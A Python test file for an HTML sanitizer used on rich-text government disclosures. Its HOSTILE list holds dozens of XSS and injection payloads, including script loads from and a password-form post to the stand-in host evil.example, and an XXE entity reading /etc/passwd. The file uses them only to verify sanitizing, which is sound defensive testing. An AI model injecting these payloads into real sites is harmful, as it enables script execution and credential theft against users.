"""Rich text: nothing that runs, loads or styles is left, and no word is lost."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gongkai.office.disclosures.rich_text import clean, plain

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='//evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/desk/items/1/withdraw'>x</a>",
    "<a href='https://a.example' onclick=alert(1)>x</a>",
    "<a href='https://a.example' style='position:fixed;inset:0'>x</a>",
    "<a href='https://a.example' target=_blank>x</a>",
    "<a name=csrf id=form>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p class='action-button'>x</p>",
    "<p onmouseover=alert(1)>x</p>",
    "<p align='\" onmouseover=alert(1) x=\"'>x</p>",
    "<td colspan='99999999'>x</td>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<table><td background='//evil.example/x.png'>x</td></table>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><!--</style><script>alert(1)//--></style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='//evil.example/'>",
    "<form action='//evil.example'><input name=password><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea></textarea><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex action='javascript:alert(1)'>",
    "<keygen autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)></frameset>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p><![endif]--><img src=x onerror=alert(1)>",
    '<a href="https://a.example/" title="&quot; onmouseover=alert(1)">x</a>',
    "<b\x00 onmouseover=alert(1)>x</b>",
    "<p/onmouseover=alert(1)>x</p>",
    "<o:p><v:shape path=x></v:shape></o:p>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "\ufeff<script>alert(1)</script>",
    "<p>" * 3_000 + "<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]
TAGS = {
    "p", "h2", "h3", "h4", "blockquote", "ul", "ol", "li", "table", "caption", "thead", "tbody",
    "tfoot", "tr", "th", "td", "hr", "br", "strong", "b", "em", "i", "u", "s", "sub", "sup", "a",
}  # fmt: skip
ATTRIBUTES = {"href", "rel", "align", "colspan", "rowspan", "scope"}
PIECES = ["<p>", "</p>", "<td", " align=right>", "<!--", "-->", "'", "&nbsp;", "\xa0", "&", "<b"]
MARKUP = st.lists(st.sampled_from([*HOSTILE[:-3], *PIECES]) | st.text(max_size=8), max_size=6).map(
    "".join
)


class Reader(HTMLParser):
    """Notes what a browser would be given."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(cleaned: str) -> None:
    reader = Reader()
    reader.feed(cleaned)
    reader.close()
    assert reader.tags <= TAGS
    assert {name for name, _ in reader.attributes} <= ATTRIBUTES
    assert reader.other == []
    links = [value for name, value in reader.attributes if name == "href"]
    assert all(re.match(r"(?i)(https?://|mailto:)", link) for link in links)


@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_hostile_is_left(payload: str) -> None:
    assert_harmless(clean(payload))
    assert_harmless(clean(f"<p>正文{payload}</p>"))
    assert_harmless(clean(clean(payload)))


@settings(max_examples=150, deadline=None)
@given(MARKUP)
def test_cleaning_is_harmless_and_cleaning_twice_changes_nothing(markup: str) -> None:
    cleaned = clean(markup)
    assert_harmless(cleaned)
    assert clean(cleaned) == cleaned
    cleaned.encode()
    assert "\0" not in cleaned


def test_lines_of_plain_text_become_paragraphs() -> None:
    assert clean("各镇人民政府：\r\n\r\n  现印发 A<B & C>D。\n") == (
        "<p>各镇人民政府：</p>\n<p>现印发 A&lt;B &amp; C&gt;D。</p>"
    )
    assert clean("  \n ") == ""


def test_words_between_angle_brackets_are_no_tags() -> None:
    assert plain(clean("若A<B且C>D，或 a<b & c>d，见<表1>")) == "若A<B且C>D，或 a<b & c>d，见<表1>"
    assert plain(clean("&lt;p&gt; 5 > 3")) == "&lt;p&gt; 5 > 3"


def test_what_a_document_needs_is_kept() -> None:
    text = (
        '<h2 align="center">办法</h2><p>第一条<strong>目的</strong></p>'
        '<table><caption>表一</caption><tbody><tr><th scope="col">项目</th>'
        '<td colspan="2" align="right">12</td></tr></tbody></table>'
        '<p align="right">2026年11月20日</p>'
        '<p><a href="https://www.example.gov.cn/a?b=1" rel="noopener noreferrer">链接</a></p>'
    )
    assert clean(text) == text


def test_what_word_pastes_loses_its_styles_and_keeps_its_words() -> None:
    pasted = (
        "<html xmlns:o='urn:schemas-microsoft-com:office:office'><head><style>p{color:red}</style>"
        "</head><body><!--StartFragment--><p class=MsoNormal style='text-indent:2em'>"
        "<span lang=EN-US style='font-family:仿宋'>一、总体要求<o:p></o:p></span></p></body></html>"
    )
    assert clean(pasted) == "<p>一、总体要求</p>"


def test_plain_text_has_a_line_for_a_block_and_a_tab_between_cells() -> None:
    text = clean("<p>甲&amp;乙</p><table><tr><td>一</td><td>二</td></tr></table><p>丙<br>丁</p>")
    assert plain(text).split("\n") == ["甲&乙", "一\t二", "丙", "丁"]
